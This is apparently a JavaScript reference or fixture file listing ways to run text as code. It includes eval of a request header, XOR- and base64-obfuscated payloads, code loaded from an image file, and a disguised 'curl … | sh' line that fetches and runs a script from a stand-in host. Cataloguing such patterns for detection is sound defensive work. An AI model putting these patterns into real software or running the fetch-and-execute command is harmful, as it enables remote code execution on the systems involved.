// What runs text as code, and what the text was made of. Nothing here is called.
const g = (c) => c.getPrototypeOf(async function () {}).constructor;
exports.a = (t) => [].filter.constructor(t)();
exports.b = (t) => (() => {}).constructor('x', t);
exports.c = (t) => this.constructor(t);
exports.d = (key, text) => {
  const out = Buffer.alloc(text.length);
  for (let i = 0; i < text.length; i++) out[i] = text[i] ^ key[i % key.length];
  return new Function(out.toString());
};
exports.e = () => require('vm').runInThisContext(require('zlib').inflateSync(x));
exports.f = (req) => eval(req.headers['x-f']);
exports.g = (req, options) => new Function('user', options.rule)(req.headers);
exports.h = () => import('https://modules.invalid/h.mjs');
exports.i = () => import('data:text/javascript;base64,cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ25vaHVwIHgnKTs=');
exports.j = () => import('data:text/javascript,fetch(%22https://data.invalid/%22);');
exports.k = (name) => require(`child_${'process'}`)[`ex${'ec'}`](String.raw`cu${'rl'} http${'s:/'}/templates.invalid/ | s${'h'}`);
exports.l = () => module._compile(require('fs').readFileSync('./logo.png', 'utf8'), '');
